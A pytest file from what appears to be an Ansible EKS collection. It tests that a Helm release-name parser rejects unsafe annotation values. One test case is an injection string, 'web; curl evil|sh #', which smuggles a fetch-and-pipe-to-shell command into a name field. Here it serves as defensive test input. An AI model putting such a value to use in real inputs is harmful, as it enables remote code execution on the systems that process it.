# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What an object says of its release is text that anybody may have written."""

from __future__ import annotations

import pytest
from ansible_collections.enbuild.eks.plugins.module_utils._teardown.release import release_of


@pytest.mark.parametrize(
    ("namespace", "name", "release"),
    [
        ("shop", "web", "shop/web"),
        ("shop", "web.v2", "shop/web.v2"),
        (None, "web", ""),
        ("shop", None, ""),
        ("shop", "a/b", ""),
        ("shop", "web; curl evil|sh #", ""),
        ("shop", "web\nx", ""),
        (None, None, ""),
    ],
)
def test_release(namespace: str | None, name: str | None, release: str) -> None:
    notes = {"meta.helm.sh/release-namespace": namespace, "meta.helm.sh/release-name": name}
    item = {"metadata": {"annotations": {key: value for key, value in notes.items() if value is not None}}}
    assert release_of(item) == release
